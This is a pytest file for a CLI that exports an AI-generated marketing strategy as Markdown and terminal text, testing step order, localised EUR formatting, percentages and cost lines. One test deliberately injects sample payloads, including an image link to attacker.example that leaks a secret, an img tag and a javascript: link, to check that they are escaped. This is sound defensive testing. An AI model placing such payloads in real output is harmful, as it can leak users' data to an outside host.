"""The strategy as Markdown and as terminal text: steps in step_number order, each
channel's share with its EUR amount, every section, in the strategy's language."""

from __future__ import annotations

import re
from typing import Any

import pytest

from cli.errors import CliError, Exit
from cli.export import eur, percent, strategy_of, to_markdown, to_text


def completed(language: str = "en") -> dict[str, Any]:
    return {
        "task_id": "t1",
        "status": "COMPLETED",
        "request": {"brief": "b", "language": language},
        "result": {
            "model": "gemini-3.8-flash-001",
            "strategy": {
                "strategy_name": "Bake the Town",
                "target_audience": "Young families in Iasi",
                "required_budget": 12500,
                "summary": "Three months of fresh bread.",
                "steps": [
                    {"step_number": 3, "description": "Measure"},
                    {"step_number": 1, "description": "Open | launch"},
                    {"step_number": 2, "description": "Advertise"},
                ],
                "channels": [
                    {"name": "Instagram", "rationale": "Young | local", "budget_share": 0.6},
                    {"name": "Radio", "rationale": "Commuters", "budget_share": 0.4},
                ],
                "kpis": ["500 orders"],
                "key_messages": ["Fresh every morning"],
                "timeline_weeks": 12,
                "visual_brief": "Loaves at dawn",
            },
            "sources": [
                {"url": "https://example.com/", "title": None, "status": "retrieved"},
                {
                    "url": "https://vertexaisearch.example/redirect/1",
                    "domain": "bakers.example",
                    "status": "cited",
                    "kind": "search",
                },
            ],
        },
    }


def test_markdown_has_every_section_with_steps_in_order() -> None:
    text = to_markdown(completed())
    assert text.startswith("# Bake the Town\n")
    assert "- **Target audience:** Young families in Iasi" in text
    assert "- **Budget:** EUR 12,500" in text
    assert "- **Timeline:** 12 weeks" in text
    assert "## Summary\n\nThree months of fresh bread." in text
    assert "## Steps\n\n1. Open \\| launch\n2. Advertise\n3. Measure\n" in text
    assert "| Instagram | 60% | EUR 7,500 | Young \\| local |" in text
    assert "| Radio | 40% | EUR 5,000 | Commuters |" in text
    assert "## KPIs\n\n- 500 orders" in text
    assert "## Key messages\n\n- Fresh every morning" in text
    assert "## Visual brief\n\nLoaves at dawn" in text
    assert "- [https\\://example.com/](<https://example.com/>) (retrieved)" in text
    assert "- [bakers.example](<https://vertexaisearch.example/redirect/1>) (cited)" in text
    assert text.rstrip().endswith("_Task `t1`, model gemini-3.8-flash-001_")


def test_markdown_in_romanian() -> None:
    text = to_markdown(completed("ro"))
    assert "- **Public țintă:** Young families in Iasi" in text
    assert "- **Buget:** 12.500 EUR" in text
    assert "- **Durată:** 12 săptămâni" in text
    assert "## Pași" in text and "| Canal | Pondere | Sumă | De ce |" in text
    assert "| Instagram | 60% | 7.500 EUR |" in text


def test_terminal_text_in_order_with_amounts() -> None:
    text = to_text(completed())
    lines = text.splitlines()
    assert lines[0] == "== Bake the Town =="
    steps = [line for line in lines if line.startswith("  ") and line.strip()[0].isdigit()]
    assert steps == ["  1. Open | launch", "  2. Advertise", "  3. Measure"]
    assert "  - Instagram (60%, EUR 7,500): Young | local" in lines


def test_strategy_of_sorts_and_refuses_unfinished_tasks() -> None:
    assert [s["step_number"] for s in strategy_of(completed())["steps"]] == [1, 2, 3]
    failed = {
        "task_id": "t2",
        "status": "FAILED",
        "result": None,
        "error": {"code": "content_blocked", "message": "blocked"},
    }
    with pytest.raises(CliError) as raised:
        strategy_of(failed)
    assert raised.value.exit == Exit.REFUSED
    assert "FAILED: content_blocked: blocked" in raised.value.message


@pytest.mark.parametrize(
    ("amount", "language", "expected"),
    [
        (12500, "en", "EUR 12,500"),
        (1234.5, "en", "EUR 1,234.50"),
        (12500, "ro", "12.500 EUR"),
        (1234.5, "ro-RO", "1.234,50 EUR"),
        (0, "en", "EUR 0"),
    ],
)
def test_eur(amount: float, language: str, expected: str) -> None:
    assert eur(amount, language) == expected


def test_percent() -> None:
    assert percent(0.35) == "35%"
    assert percent(0.125) == "12.5%"
    assert percent(1 / 3) == "33.3%"


def test_model_text_is_text_in_the_markdown_and_links_come_only_from_sources() -> None:
    """Issue 18: injected Markdown or HTML in the strategy stays literal text."""
    task = completed()
    strategy = task["result"]["strategy"]
    leak = "![chart](https://attacker.example/leak?d=secret)"
    strategy["strategy_name"] = f"Plan {leak}"
    strategy["summary"] = '<img src="https://attacker.example/x"> see www.attacker.example'
    strategy["steps"][0]["description"] = "[click](javascript:alert(1)) or mail me@attacker.example"
    strategy["kpis"] = ["**bold** `code` https://attacker.example/p ~~gone~~ &amp;"]
    text = to_markdown(task)
    outside_sources = text.split("## Sources")[0]
    for construct in ("![", "](", "<img", "**bold", "`code", "~~", "://attacker", "www.att"):
        # Present only with its first character backslash-escaped (literal text).
        unescaped = re.search(r"(?<!\\)" + re.escape(construct), outside_sources)
        assert unescaped is None, construct
    assert "\\&amp;" in text and "me\\@attacker" in text  # no entity, no mail link
    # The escapes keep the words: a reader sees what the model wrote.
    assert "\\!\\[chart\\]\\(https\\://attacker.example/leak?d=secret\\)" in text
    # The only links are the recorded sources'.
    links = [line for line in text.splitlines() if "](" in line]
    assert links and all(line.startswith("- [") and "](<https://" in line for line in links)


def test_markdown_and_the_task_summary_say_what_the_task_cost() -> None:
    from cli.tinkerbell import describe_task

    task = completed()
    task["result"]["cost"] = {"amount": 0.034567, "currency": "EUR"}
    assert to_markdown(task).rstrip().endswith("_Cost: 0.0346 EUR_")
    assert "cost     0.0346 EUR" in describe_task(task).splitlines()
    # A task finished before costs were recorded says nothing about them.
    assert "Cost" not in to_markdown(completed())
